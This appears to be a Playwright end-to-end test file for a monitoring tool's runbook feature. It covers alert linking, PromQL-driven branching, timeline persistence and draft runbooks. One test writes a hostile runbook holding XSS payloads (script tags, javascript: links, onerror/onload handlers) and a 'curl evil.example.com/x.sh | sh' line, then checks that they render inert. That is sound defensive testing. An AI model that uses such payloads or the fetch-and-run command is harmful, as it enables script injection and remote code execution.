import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { parse, stringify } from 'yaml';
import { feedStageLatency } from '../fixtures/feedStageLatency';
import { screenshotPath } from '../fixtures/paths';
import { readRuleFile } from '../fixtures/readRuleFile';
import type { TestKit } from '../fixtures/createTestKit';
import { waitFor } from '../fixtures/waitFor';
import { expect, test } from '../fixtures/vigilTest';

/**
 * Runbooks end to end: a real Prometheus alert links to the shipped latency runbook, its PromQL
 * check runs against that Prometheus and picks the branch, every step lands on the timeline and
 * survives a restart; a hostile runbook file renders inert; an alert without a runbook gets a
 * draft that, once saved, links; and the coverage report reads Prometheus's rules.
 */

/** The ML alert rules, plus two with no runbook: one that fires on demand, one that never does. */
function rulesWithGaps(): string {
  const doc = parse(readRuleFile('ml-alerts')) as { groups: { name: string; rules: unknown[] }[] };
  doc.groups.push({
    name: 'platform',
    rules: [
      {
        alert: 'FeatureStoreDown',
        expr: 'feature_store_up{service="feature-store"} == 0',
        for: '0s',
        labels: { service: 'feature-store', team: 'ml-platform', severity: 'critical' },
        annotations: { summary: 'Feature store is not answering', description: 'Online features cannot be fetched.' },
      },
      {
        alert: 'BatchScoringLate',
        expr: 'batch_scoring_delay_seconds > 3600',
        for: '0s',
        labels: { severity: 'warning' },
        annotations: { summary: 'Nightly batch scoring is late' },
      },
    ],
  });
  return stringify(doc);
}

function tempFolder(kit: TestKit, prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  kit.defer(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

async function useRunbookFolder(page: Page, folder: string) {
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Runbooks' }).click();
  await page.getByLabel('Runbook folder (full path)').fill(folder);
  await page.getByRole('button', { name: 'Use this folder' }).click();
  // Shown once the main side has taken the folder (the field alone shows what was typed).
  await expect(page.getByRole('button', { name: 'Shipped runbooks only' })).toBeVisible();
  await expect(page.getByText('The folder cannot be read')).toHaveCount(0);
}

test('a Prometheus alert links to the latency runbook; its check picks the branch; steps reach the timeline and survive a restart', async ({
  page,
  kit,
}) => {
  const exporter = await kit.startExporter();
  exporter.setMetric('model_latency_p99_seconds', { service: 'fraud-model' }, 0.9);
  // What the runbook's step 1 reads: feature fetch is the slow stage (0.3 s against a 0.2 s budget).
  const feed = feedStageLatency(exporter, {
    model: 'fraud-model',
    stages: { feature_fetch: 0.3, inference: 0.04, postprocess: 0.02, total: 0.9 },
  });
  kit.defer(() => feed.stop());
  const prometheus = await kit.startPrometheus({ rules: readRuleFile('ml-alerts'), scrapeTargets: [exporter.target] });
  const dataDir = tempFolder(kit, 'vigil-e2e-runbooks-');
  const sources = [{ name: 'Prometheus (test)', url: prometheus.url, intervalSeconds: 2 }];
  const host = await kit.startHost({ dataDir, sources });

  await page.goto(host.url);
  const row = page.getByTestId('incident-row').filter({ hasText: 'FraudModelHighLatency' });
  await expect(row).toBeVisible({ timeout: 20_000 });
  await row.click();

  const section = page.getByTestId('runbook-section');
  const runbook = section.getByTestId('runbook');
  await expect(runbook).toHaveAttribute('data-runbook-id', 'model-high-latency');
  await expect(runbook).toContainText('Model p99 latency over its SLO');
  await expect(section.getByTestId('runbook-url')).toHaveAttribute(
    'href',
    'https://runbooks.example.com/fraud-model-latency',
  );
  await expect(section.getByTestId('runbook-none')).toHaveCount(0);
  await page.screenshot({ path: screenshotPath('runbook-linked.png') });

  // `r` brings the runbook into focus: its Start button when nothing is started yet.
  await page.keyboard.press('r');
  await expect(section.getByRole('button', { name: 'Start walkthrough' })).toBeFocused();
  await page.keyboard.press('Enter');
  const step1 = section.locator('[data-testid="runbook-step"][data-step="1"]');
  await expect(step1).toHaveAttribute('data-status', 'current');
  await expect(step1.getByTestId('runbook-step-clock')).toContainText(/\d:\d\d left/);

  // rate() over the fed histogram needs a few scrapes; wait on Prometheus itself, not on a sleep.
  await waitFor(
    async () => {
      const q = encodeURIComponent('model_request_latency_seconds_bucket{stage="feature_fetch",le="0.5"}[10s]');
      const res = await fetch(`${prometheus.url}/api/v1/query?query=${q}`);
      const body = (await res.json()) as { data: { result: { values: unknown[] }[] } };
      return (body.data.result[0]?.values.length ?? 0) >= 3;
    },
    { what: 'three scrapes of the latency histogram' },
  );
  await step1.getByRole('button', { name: 'Run the checks' }).click();
  const featureCheck = step1.locator('[data-check-id="1.q1"]');
  await expect(featureCheck.getByTestId('runbook-check-result')).toContainText(/= 0\.4\d+/);
  await expect(featureCheck.getByTestId('runbook-check-result')).toContainText('Prometheus (test)');
  await expect(step1.locator('[data-check-id="1.q2"]').getByTestId('runbook-check-result')).toContainText(/= 0\.0\d+/);
  await expect(step1.getByTestId('runbook-step-outcome')).toContainText(
    /→ Step 2 \(Feature store is slow\), chosen by the checks: feature fetch p99 \(s\) = 0\.4\d+, value > 0\.2/,
  );
  await expect(step1.getByRole('button', { name: /^Done → Step 2/ })).toBeEnabled();
  await page.screenshot({ path: screenshotPath('runbook-branch.png') });

  await step1.getByRole('button', { name: /^Done → Step 2/ }).click();
  const step2 = section.locator('[data-testid="runbook-step"][data-step="2"]');
  await expect(step2).toHaveAttribute('data-status', 'current');
  await step2.getByRole('checkbox', { name: /Feature server and Redis pods are Running/ }).check();
  await expect(step2.getByRole('checkbox', { name: /Feature server and Redis pods are Running/ })).toBeChecked();
  await expect(step2.getByTestId('runbook-command').first()).toContainText('kubectl get pods');
  await step2.getByRole('button', { name: 'Skip…' }).click();
  await step2.getByTestId('runbook-skip-reason').fill('Redis dashboard is down');
  await step2.getByRole('button', { name: 'Skip step' }).click();
  await expect(step2).toHaveAttribute('data-status', 'skipped');
  await expect(step2).toContainText('Skipped: “Redis dashboard is down”');
  const step6 = section.locator('[data-testid="runbook-step"][data-step="6"]');
  await expect(step6).toHaveAttribute('data-status', 'current');
  await expect(section.getByText(/Suggested post-mortem action items/)).toBeVisible();

  const timeline = page.getByRole('region', { name: 'Timeline' });
  await expect(timeline.locator('[data-kind="runbook-started"]')).toContainText(
    'Started runbook "Model p99 latency over its SLO"',
  );
  await expect(timeline.locator('[data-kind="runbook-query"]').first()).toContainText('feature fetch p99 (s)');
  await expect(timeline.locator('[data-kind="runbook-branch"]')).toContainText(
    'the checks point to Step 2 (Feature store is slow)',
  );
  await expect(timeline.locator('[data-kind="runbook-step-done"]')).toContainText('Step 1 "Find the slow stage" done');
  await expect(timeline.locator('[data-kind="runbook-step-skipped"]')).toContainText(
    'skipped: Redis dashboard is down',
  );
  await page.screenshot({ path: screenshotPath('runbook-walkthrough.png'), fullPage: true });

  await host.stop();
  const again = await kit.startHost({ dataDir, sources });
  await page.goto(again.url);
  await page.getByTestId('incident-row').filter({ hasText: 'FraudModelHighLatency' }).click();
  const restored = page.getByTestId('runbook-section');
  await expect(restored.locator('[data-testid="runbook-step"][data-step="1"]')).toHaveAttribute('data-status', 'done');
  await expect(restored.locator('[data-testid="runbook-step"][data-step="2"]')).toHaveAttribute(
    'data-status',
    'skipped',
  );
  await expect(restored.locator('[data-testid="runbook-step"][data-step="6"]')).toHaveAttribute(
    'data-status',
    'current',
  );
  await expect(restored.locator('[data-testid="runbook-step"][data-step="2"]')).toContainText(
    'Redis dashboard is down',
  );
  await expect(
    page.getByRole('region', { name: 'Timeline' }).locator('[data-kind="runbook-step-skipped"]'),
  ).toBeVisible();
  // With a walkthrough under way, `r` lands on its current step.
  await page.keyboard.press('r');
  await expect(restored.locator('[data-testid="runbook-step"][data-step="6"] .rb-step-head')).toBeFocused();
  await page.screenshot({ path: screenshotPath('runbook-restored.png') });
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.screenshot({ path: screenshotPath('runbook-dark.png') });
});

test('a runbook with <script>, javascript: links, <img onerror> and raw HTML renders as inert text', async ({
  page,
  kit,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const folder = tempFolder(kit, 'vigil-e2e-runbooks-user-');
  const host = await kit.startHost({ demo: true });
  await page.goto(host.url);
  await useRunbookFolder(page, folder);

  // Written after the folder is set: the watcher must pick it up without a restart.
  writeFileSync(
    join(folder, 'evil.md'),
    [
      '---',
      'id: evil-latency',
      'title: "<script>window.__pwned = \'title\'</script> Latency, the hostile way"',
      'match:',
      '  - alertname="FraudModelHighLatency"',
      '  - model="fraud-model"',
      'owner: "<img src=x onerror=window.__pwned=\'owner\'>"',
      '---',
      '',
      'Intro <script>window.__pwned = 1</script> and <img src=x onerror="window.__pwned=2"> in plain sight.',
      '',
      '## Step 1: <b onmouseover="window.__pwned=3">Look</b> around (2 min)',
      '',
      '- [ ] Click [this link](javascript:window.__pwned=4) and <a href="javascript:alert(1)">this one</a>',
      '- [ ] <iframe src="javascript:alert(2)"></iframe> frames stay text',
      '- A [safe link](https://grafana.example.com/d/latency) is still a link',
      '',
      '```bash',
      'echo "$(curl https://evil.example.com/x.sh | sh)" <script>alert(3)</script>',
      '```',
      '',
      '<svg onload="window.__pwned=5"></svg>',
      '',
    ].join('\n'),
  );
  writeFileSync(join(folder, 'broken.md'), '---\nid: Broken Id\n---\n');

  await expect(page.getByTestId('runbook-failure')).toContainText('broken.md');
  await expect(page.getByTestId('runbook-failure')).toContainText(/line \d+:/);
  await expect(page.getByTestId('runbook-entry').filter({ hasText: 'evil-latency' })).toBeVisible();
  await page.screenshot({ path: screenshotPath('runbook-library.png'), fullPage: true });

  await page.keyboard.press('Escape');
  await page.getByTestId('incident-row').filter({ hasText: 'FraudModelHighLatency' }).click();
  const section = page.getByTestId('runbook-section');
  await expect(section.getByTestId('runbook')).toHaveAttribute('data-runbook-id', 'evil-latency');
  await section.getByRole('button', { name: 'Start walkthrough' }).click();
  const step = section.locator('[data-testid="runbook-step"][data-step="1"]');
  await expect(step).toHaveAttribute('data-status', 'current');

  // The markup is on screen as the characters written...
  await expect(section).toContainText("<script>window.__pwned = 'title'</script> Latency, the hostile way");
  await expect(step).toContainText('<b onmouseover="window.__pwned=3">Look</b> around');
  await expect(step).toContainText('<a href="javascript:alert(1)">this one</a>');
  await expect(step).toContainText('<iframe src="javascript:alert(2)"></iframe> frames stay text');
  await expect(step).toContainText('[this link](javascript:window.__pwned=4)');
  await expect(step).toContainText('<svg onload="window.__pwned=5"></svg>');
  await expect(step.getByTestId('runbook-command')).toContainText('<script>alert(3)</script>');
  // ...and not one element came from it. The page's CSP would also stop inline script, so the
  // DOM itself is checked: a rendering bug must fail here even with the CSP as a second wall.
  for (const tag of ['script', 'img', 'iframe', 'svg:not(.rb-spark)', 'b', '[onerror]', '[onload]', '[onmouseover]']) {
    await expect(section.locator(tag), `no ${tag} from the runbook`).toHaveCount(0);
  }
  const hrefs = await section.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''));
  expect(hrefs).toContain('https://grafana.example.com/d/latency');
  expect(hrefs.every((h) => /^https?:\/\//.test(h))).toBe(true);

  // Hover and click where a live element would have reacted.
  await step.getByText(/<b onmouseover/).hover();
  await step.getByText(/this link\]\(javascript:/).click();
  // The demo has no Prometheus: a value can still be entered by hand.
  await expect(section).toContainText('the demo has no Prometheus to query');
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  await page.screenshot({ path: screenshotPath('runbook-xss.png') });
});

test('an alert without a runbook gets a draft that links once saved, and coverage lists rules with and without one', async ({
  page,
  kit,
}) => {
  const exporter = await kit.startExporter();
  exporter.setMetric('feature_store_up', { service: 'feature-store' }, 0);
  exporter.setMetric('model_error_ratio', { service: 'fraud-model' }, 0.072);
  const prometheus = await kit.startPrometheus({ rules: rulesWithGaps(), scrapeTargets: [exporter.target] });
  const host = await kit.startHost({
    sources: [{ name: 'Prometheus (test)', url: prometheus.url, intervalSeconds: 2 }],
  });
  const folder = tempFolder(kit, 'vigil-e2e-runbooks-user-');

  await page.goto(host.url);
  const row = page.getByTestId('incident-row').filter({ hasText: 'FeatureStoreDown' });
  await expect(row).toBeVisible({ timeout: 20_000 });
  await row.click();
  const section = page.getByTestId('runbook-section');
  await expect(section.getByTestId('runbook-none')).toContainText('No runbook for this alert FeatureStoreDown');
  await section.getByRole('button', { name: 'Create a runbook' }).click();
  const draft = section.getByTestId('runbook-draft');
  await expect(draft.getByRole('textbox', { name: 'Runbook Markdown' })).toHaveValue(
    /alertname=\\"FeatureStoreDown\\"/,
  );
  await expect(draft).toContainText('choose a runbook folder');
  await page.screenshot({ path: screenshotPath('runbook-draft.png') });

  await useRunbookFolder(page, folder);
  await expect(page.getByTestId('coverage-summary')).toContainText('3 of 5 alerting rules have a runbook');
  await expect(page.getByTestId('coverage-rule').filter({ hasText: 'FeatureStoreDown' })).toHaveAttribute(
    'data-covered',
    'false',
  );
  await expect(page.getByTestId('coverage-rule').filter({ hasText: 'FraudModelHighLatency' })).toContainText(
    'Model p99 latency over its SLO',
  );

  await page.keyboard.press('Escape');
  await page.getByTestId('incident-row').filter({ hasText: 'FeatureStoreDown' }).click();
  // The draft stayed open (edits and all) and now offers to save into the folder just chosen.
  await expect(draft.getByLabel('File name')).toHaveValue('feature-store-down.md');
  await draft.getByRole('button', { name: 'Save runbook' }).click();
  await expect(section.getByTestId('runbook-draft-saved')).toContainText(
    `Saved to ${join(folder, 'feature-store-down.md')}`,
  );
  await expect(section.getByTestId('runbook')).toHaveAttribute('data-runbook-id', 'feature-store-down');
  await expect(section.getByTestId('runbook-none')).toHaveCount(0);

  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Runbooks' }).click();
  await page.getByRole('button', { name: 'Check again' }).click();
  await expect(page.getByTestId('coverage-summary')).toContainText('4 of 5 alerting rules have a runbook');
  await expect(page.getByTestId('coverage-rule').filter({ hasText: 'BatchScoringLate' })).toContainText('no runbook');
  await page.screenshot({ path: screenshotPath('runbook-coverage.png'), fullPage: true });
});
